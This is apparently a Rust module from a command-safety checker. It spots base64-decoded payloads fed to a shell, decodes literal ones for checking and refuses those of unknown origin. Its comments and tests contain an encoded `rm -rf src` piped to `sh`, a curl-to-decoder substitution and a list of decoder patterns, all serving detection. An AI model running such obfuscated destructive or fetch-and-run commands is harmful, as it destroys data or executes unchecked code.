//! Encoded payloads. `echo cm0gLXJmIHNyYw== | base64 -d | sh` runs what the
//! literal decodes to (`rm -rf src`): when the encoded text is in the
//! command itself it is decoded here and the result is checked like typed
//! text, so a harmless payload (`ls -la`) passes. Decoded data whose source
//! is not in the text (a file, the network) cannot be read here: fed to a
//! shell or a client, or run by `eval` / `$(…)`, it is refused unchecked,
//! and the refusal says so.

use base64::Engine as _;
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};

use super::shell::Word;

/// `base64 -d` as coreutils reads it: padding optional, newlines ignored
/// (it decodes what it can before complaining, and that part still runs).
const BASE64: GeneralPurpose = GeneralPurpose::new(
    &base64::alphabet::STANDARD,
    GeneralPurposeConfig::new()
        .with_decode_padding_mode(DecodePaddingMode::Indifferent)
        .with_decode_allow_trailing_bits(true),
);

/// Why decoded data of unknown origin is refused, by what it feeds.
pub(super) const UNKNOWN_INTO_SHELL: &str = "it decodes data read from a file or the network and runs it as shell code (`base64 -d | sh`, `eval \"$(… | base64 -d)\"`), which cannot be checked; decode it to a file, read it, then run what it says";
pub(super) const UNKNOWN_INTO_CLIENT: &str = "it decodes data read from a file or the network and feeds it to a database client, which cannot be checked; decode it to a file, read it, then run what it says";

/// Is this command a base64 decoder reading stdin (`base64 -d`, `--decode`,
/// macOS's `-D`), so that a literal piped in can be decoded here?
pub(super) fn is_stdin_base64(name: &str, argv: &[Word]) -> bool {
    if !matches!(name, "base64" | "gbase64") {
        return false;
    }
    let mut decode = false;
    for w in &argv[1..] {
        match w.text.as_str() {
            "-d" | "--decode" | "-D" | "-di" | "-id" | "-i" | "--ignore-garbage" => {
                decode |= w.text.contains(['d', 'D'])
            }
            "-" => {}
            t if t.starts_with('-') => {}
            _ => return false, // a file operand: its content is not here
        }
    }
    decode
}

/// The text a literal base64 payload decodes to (what `echo` printed, a
/// here-string); `None` when it is not valid base64 or not text.
pub(super) fn base64_text(encoded: &str) -> Option<String> {
    let compact: String = encoded.split_ascii_whitespace().collect();
    let bytes = BASE64.decode(compact.as_bytes()).ok()?;
    String::from_utf8(bytes).ok()
}

/// Does this text (an `eval` argument, a `-c` payload, a command word) run
/// the output of a decoder inside `$(…)` or backquotes? Only used when the
/// substitution could not be decoded statically.
pub(super) fn runs_decoded(text: &str) -> bool {
    (text.contains("$(") || text.contains('`'))
        && DECODER_SPELLINGS.iter().any(|d| {
            text.match_indices(d.0)
                .any(|(i, _)| d.1.iter().any(|f| text[i + d.0.len()..].contains(f)))
        })
}

/// Decoders and the options that make them decode (as in `steal`'s list of
/// decoders: what turns encoded text back into bytes).
const DECODER_SPELLINGS: &[(&str, &[&str])] = &[
    ("base64", &[" -d", " --decode", " -D", " -di", " -id"]),
    ("base32", &[" -d", " --decode"]),
    ("basenc", &[" -d", " --decode"]),
    ("xxd", &[" -r"]),
    ("openssl", &[" -d", " base64"]),
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn literal_payloads_decode() {
        assert_eq!(
            base64_text("cm0gLXJmIHNyYw==").as_deref(),
            Some("rm -rf src")
        );
        assert_eq!(base64_text("cm0gLXJmIHNyYw").as_deref(), Some("rm -rf src"));
        assert_eq!(base64_text("bHMg\nLWxh").as_deref(), Some("ls -la"));
        assert_eq!(base64_text("not base64!"), None);
    }

    #[test]
    fn decoders_from_stdin_only() {
        let w = |v: &[&str]| v.iter().map(|t| Word::lit(t)).collect::<Vec<_>>();
        assert!(is_stdin_base64("base64", &w(&["base64", "-d"])));
        assert!(is_stdin_base64("base64", &w(&["base64", "--decode", "-"])));
        assert!(!is_stdin_base64("base64", &w(&["base64", "-d", "p.b64"])));
        assert!(!is_stdin_base64("base64", &w(&["base64"])));
    }

    #[test]
    fn decoded_substitutions() {
        assert!(runs_decoded("$(curl -s https://x | base64 -d)"));
        assert!(runs_decoded("`base64 --decode < f`"));
        assert!(!runs_decoded("$(echo ok)"));
        assert!(!runs_decoded("base64 -d f"));
    }
}
